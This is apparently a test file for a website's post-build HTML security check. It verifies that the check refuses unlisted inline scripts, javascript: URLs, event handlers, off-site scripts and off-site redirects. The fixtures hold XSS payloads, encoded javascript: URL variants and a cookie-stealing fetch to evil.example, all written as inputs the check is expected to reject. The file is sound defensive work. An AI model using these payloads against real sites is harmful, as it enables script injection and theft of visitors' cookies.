// @vitest-environment node
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { allowList, ALLOW_LIST_FILE } from '@/scripts/build/inline-scripts.mjs';
import { postbuild, securePage } from '@/scripts/build/postbuild.mjs';
import { CSP_DIRECTIVES } from '@/scripts/build/security-policy.mjs';
import { browserScheme } from '@/scripts/build/url-attributes.mjs';
import { inlineScripts } from '@/lib/site/inline-scripts';
import { BOOT_SCRIPT } from '@/lib/site/boot-script';
import { LOCALES } from '@/lib/i18n/locales';
import { leaveAfterPaintScript, redirectTarget } from '@/lib/tours/redirect';
import { tours } from '@/lib/tours/tours';

// The post-build step trusts no inline script it finds: only the allow-list, JSON-LD data and
// scripts from the site itself pass; javascript: URLs are looked for where browsers read URLs.

const page = (body: string, head = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`;
const OPTIONS = { allowedScripts: allowList([BOOT_SCRIPT]) };
const secure = (body: string, head = '') => securePage(page(body, head), 'guides/some-guide.html', OPTIONS);

describe('inline scripts', () => {
  it('allows the allow-listed scripts and hashes them', () => {
    expect(secure('<p>Hi</p>', `<script>${BOOT_SCRIPT}</script>`).scripts).toHaveLength(1);
    // The HTML parser turns CRLF into LF before a browser hashes; the list is compared the same way.
    const crlf = allowList(['a();\nb();']);
    expect(() =>
      securePage(page('<script>a();\r\nb();</script>'), 'x.html', { allowedScripts: crlf }),
    ).not.toThrow();
  });

  it.each([
    ['an injected script', '<script>alert(document.cookie)</script>'],
    ['an allowed script with one character more', `<script>${BOOT_SCRIPT} </script>`],
    ['a module script', `<script type="module">${BOOT_SCRIPT}x</script>`],
    ['an SVG script', '<svg><script>alert(1)</script></svg>'],
    ['a script inside a template', '<template><script>alert(1)</script></template>'],
  ])('refuses %s, naming the page', (_what, body) => {
    expect(() => secure(body)).toThrow(/^guides\/some-guide\.html: inline <script> not on the allow-list/);
  });

  it('passes JSON-LD data blocks without listing them, but only valid JSON', () => {
    expect(() => secure('<script type="application/ld+json">{"@type":"Article"}</script>')).not.toThrow();
    expect(() => secure('<script type="application/ld+json">alert(1)</script>')).toThrow(
      /some-guide\.html: <script type="application\/ld\+json"> does not hold valid JSON/,
    );
  });

  it.each(['text/plain', 'importmap', 'speculationrules', 'text/x-template'])(
    'refuses a <script type="%s"> the site does not use',
    (type) => {
      expect(() => secure(`<script type="${type}">{}</script>`)).toThrow(
        /is not a script type the site uses/,
      );
    },
  );

  it("passes scripts loaded by src from the site and from script-src's hosts, and no others", () => {
    const klook = CSP_DIRECTIVES['script-src']!.find((s) => s.startsWith('https://'))!;
    for (const src of ['/pagefind/pagefind-ui.js', 'search.js', `${klook}/widget/fetch-iframe-init.js`]) {
      expect(() => secure(`<script src="${src}" async></script>`)).not.toThrow();
    }
    for (const src of [
      'https://evil.example/x.js',
      '//evil.example/x.js',
      '/\\evil.example/x.js',
      `${klook}.evil.example/x.js`,
      'data:text/javascript,alert(1)',
    ]) {
      expect(() => secure(`<script src="${src}"></script>`), src).toThrow(
        /loads code from a host the policy does not name/,
      );
    }
    expect(() => secure('<svg><script href="//evil.example/x.js"></script></svg>')).toThrow(/does not name/);
  });

  it('lists the scripts the pages really carry: the boot script, the 404 script, one per redirect page', () => {
    const lists = inlineScripts();
    expect(lists.boot).toEqual([BOOT_SCRIPT]);
    expect(lists['not-found']).toHaveLength(1);
    expect(lists.redirect!.every((script) => script.includes('location.replace('))).toBe(true);
    // A redirect page per tour and language (/redirect/<slug>, /id/redirect/<slug>), each with its own script.
    expect(lists.redirect).toHaveLength(tours.length * LOCALES.length);
    for (const locale of LOCALES) {
      for (const tour of tours) {
        expect(lists.redirect).toContain(leaveAfterPaintScript(redirectTarget(tour.slug, locale).url));
      }
    }
  });
});

describe('javascript: URLs', () => {
  it('reads the scheme the way a browser does', () => {
    expect(browserScheme('java\tscript:alert(1)')).toBe('javascript');
    expect(browserScheme('java\nscr\ript:alert(1)')).toBe('javascript');
    expect(browserScheme(' \u0001\u001fJaVaScRiPt:alert(1)')).toBe('javascript');
    expect(browserScheme('/guides/javascript:tips')).toBeUndefined();
    expect(browserScheme('https://x.example/')).toBe('https');
  });

  it.each([
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" &#1;JAVASCRIPT:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<video poster="javascript:alert(1)"></video>',
    '<object data="javascript:alert(1)"></object>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img srcset="/a.png 1x, javascript:alert(1) 2x" alt="">',
    '<a ping="/ok javascript:alert(1)" href="/">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><a><animate attributeName="xlink:href" values="/;javascript:alert(1)"/><text>x</text></a></svg>',
  ])('refuses %s, naming the page', (body) => {
    expect(() => secure(body)).toThrow(/^guides\/some-guide\.html: <\w+ [\w:]+=".*"> is a javascript: URL/);
  });

  it('refuses a meta refresh to a javascript: URL', () => {
    expect(() => secure('', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>')).toThrow(
      /<meta content=.*javascript: URL/,
    );
  });

  it.each([
    '<a title="JavaScript: the good parts" href="/guides/javascript">x</a>',
    '<p data-note="javascript:alert(1)">text is not a URL</p>',
    '<img alt="javascript: a word" src="/a.png">',
    '<a href="https://example.com/?q=javascript:alert(1)">x</a>',
    '<a href="/search?q=javascript%3A">x</a>',
  ])('passes harmless text: %s', (body) => {
    expect(() => secure(body)).not.toThrow();
  });

  it('passes a meta description and a meta refresh to a page', () => {
    expect(() =>
      secure(
        '',
        '<meta name="description" content="javascript: tips"/><meta http-equiv="refresh" content="0;url=/"/>',
      ),
    ).not.toThrow();
  });
});

describe('event handlers and meta refreshes (issue #24, item 8)', () => {
  it('refuses event-handler attributes by their names, and lets other "on…" attributes be', () => {
    for (const markup of [
      '<p onclick="x()">a</p>',
      '<body ONLOAD="x()">',
      '<svg><set onbegin="x()"/></svg>',
    ]) {
      expect(() => secure(markup)).toThrow(/is an inline event handler/);
    }
    expect(() => secure('<div online="true" one="1" data-online="yes">Back online</div>')).not.toThrow();
  });

  it('refuses a meta refresh to another site outside the redirect pages', () => {
    const refresh = (url: string) => `<meta http-equiv="refresh" content="0; url=${url}"/>`;
    for (const url of ['https://evil.example/', '//evil.example/', ' HTTPS://evil.example']) {
      expect(() => secure('', refresh(url))).toThrow(
        /^guides\/some-guide\.html: <meta http-equiv="refresh"> sends visitors to .*evil\.example.*; only the redirect pages may leave the site/,
      );
    }
    expect(() => secure('', refresh('/guides'))).not.toThrow();
    const affiliate = refresh('https://affiliate.klook.com/redirect?aid=1');
    expect(() => securePage(page('', affiliate), 'redirect/kawah-putih-tour.html', OPTIONS)).not.toThrow();
    expect(() => securePage(page('', affiliate), 'id/redirect/kawah-putih-tour.html', OPTIONS)).not.toThrow();
    expect(() => securePage(page('', affiliate), 'guides/redirect/x.html', OPTIONS)).toThrow(
      /only the redirect pages/,
    );
    expect(() => securePage(page('', affiliate), 'redirect/deeper/x.html', OPTIONS)).toThrow(
      /only the redirect pages/,
    );
  });
});

describe('postbuild', () => {
  function site(pages: Record<string, string>, allowed: string[]) {
    const root = mkdtempSync(join(tmpdir(), 'page-policy-'));
    const out = join(root, 'out');
    mkdirSync(join(out, 'guides'), { recursive: true });
    writeFileSync(join(out, ALLOW_LIST_FILE), JSON.stringify({ test: allowed }));
    for (const [file, html] of Object.entries(pages)) writeFileSync(join(out, file), html);
    return { root, out };
  }

  it('fails on an unknown inline script, naming the page', async () => {
    const { root, out } = site(
      {
        'index.html': page('<script>ok()</script>'),
        'guides/hacked.html': page('<p>Text</p><script>fetch("//evil.example?"+document.cookie)</script>'),
      },
      ['ok()'],
    );
    await expect(postbuild(out, root, { reportOnly: false })).rejects.toThrow(
      /^guides\/hacked\.html: inline <script> not on the allow-list/,
    );
  });

  it('fails without the build’s allow-list rather than trusting every script', async () => {
    const { root, out } = site({ 'index.html': page('<script>ok()</script>') }, []);
    writeFileSync(join(out, ALLOW_LIST_FILE), '[]');
    await expect(postbuild(out, root, { reportOnly: false })).rejects.toThrow(
      /inline-scripts\.json is not a map/,
    );
  });

  it('removes the duplicate 404 page Next writes as _not-found.html, its payload file and empty folders', async () => {
    const { root, out } = site(
      {
        '404.html': page('<p>Not found</p>'),
        '_not-found.html': page('<p>Not found</p>'),
        '_not-found.txt': '0:payload',
      },
      [],
    );
    mkdirSync(join(out, '_next', 'build-id'), { recursive: true });
    const pages = await postbuild(out, root, { reportOnly: false });
    expect(existsSync(join(out, '_not-found.html'))).toBe(false);
    expect(existsSync(join(out, '_not-found.txt'))).toBe(false);
    expect(existsSync(join(out, '_next'))).toBe(false);
    expect(pages.map((p) => p.file)).toEqual(['404.html']);
  });

  it('a deploy build refuses a page that still loads an image from another host (issue #24, item 5)', async () => {
    const hotlinked = page('<img src="https://images.unsplash.com/photo-1" alt="A view">');
    const { root, out } = site({ 'index.html': page('<p>Home</p>'), 'guides/x.html': hotlinked }, []);
    await expect(postbuild(out, root, { reportOnly: false, deploy: true })).rejects.toThrow(
      /a deploy build serves every image itself \(img-src 'self' data:\), but guides\/x\.html loads images from https:\/\/images\.unsplash\.com/,
    );
    const plain = site({ 'guides/x.html': hotlinked }, []);
    const pages = await postbuild(plain.out, plain.root, { reportOnly: false, deploy: false });
    expect(pages[0]?.images).toEqual(['https://images.unsplash.com']);
  });

  it('CSP_REPORT_ONLY: header files report only, and pages carry no meta policy (a meta tag cannot report only)', async () => {
    const { root, out } = site(
      { 'index.html': page('<script>ok()</script>'), '404.html': page('<p>404</p>') },
      ['ok()'],
    );
    const pages = await postbuild(out, root, { reportOnly: true });
    expect(readFileSync(join(out, 'index.html'), 'utf8')).not.toContain(
      'http-equiv="Content-Security-Policy"',
    );
    const headers = readFileSync(join(out, '_headers'), 'utf8');
    expect(headers).toMatch(
      /^ {2}Content-Security-Policy-Report-Only: default-src 'self'; script-src [^\n]*'sha256-/m,
    );
    expect(headers).not.toMatch(/^ {2}Content-Security-Policy:/m);
    const serve = JSON.parse(readFileSync(join(root, 'serve.json'), 'utf8'));
    const index = serve.headers.find((rule: { source: string }) => rule.source === '/index.html');
    expect(index.headers.map((h: { key: string }) => h.key)).toContain('Content-Security-Policy-Report-Only');
    expect(pages.find((p) => p.file === 'index.html')?.csp).toContain("frame-ancestors 'none'");
  });
});

describe('what the post-build check still missed (issue #34, item 11)', () => {
  it.each([
    [
      'in <head>',
      '',
      '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
    ],
    [
      'in <body>',
      '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
      '',
    ],
  ])('refuses a meta refresh to another site inside <noscript> %s', (_where, body, head) => {
    expect(() => secure(body, head)).toThrow(
      /^guides\/some-guide\.html: <meta http-equiv="refresh"> sends visitors to https:\/\/evil\.example\/; only the redirect pages may leave the site/,
    );
  });

  it('refuses an event handler inside <noscript>', () => {
    expect(() => secure('<noscript><img src="/a.png" onerror="x()" alt=""></noscript>')).toThrow(
      /<img onerror> is an inline event handler/,
    );
  });

  it.each(['onbeforetoggle', 'oncontentvisibilityautostatechange', 'onscrollend', 'onfuturething'])(
    'refuses %s, as it refuses every on… attribute but a few harmless names',
    (name) => {
      expect(() => secure(`<div ${name}="x()">a</div>`)).toThrow(/is an inline event handler/);
    },
  );

  it('refuses an off-site image from a host the build takes no photos from, naming the page and the image', () => {
    expect(() => secure('<img src="https://tracker.example/p.gif" alt="">')).toThrow(
      /^guides\/some-guide\.html: <img src> loads https:\/\/tracker\.example\/p\.gif, from a host the build takes no photos from/,
    );
    expect(() =>
      secure(
        '<picture><source srcset="https://tracker.example/a.avif 480w"/><img src="/a.jpg" alt=""/></picture>',
      ),
    ).toThrow(/<source srcset> loads https:\/\/tracker\.example\/a\.avif/);
  });

  it('widens img-src for a remote photo on a photo host the build could not download', () => {
    const secured = securePage(
      page('<img src="https://images.unsplash.com/photo-1?w=1200" alt="A view">'),
      'guides/some-guide.html',
      OPTIONS,
    );
    expect(secured.images).toEqual(['https://images.unsplash.com']);
  });
});
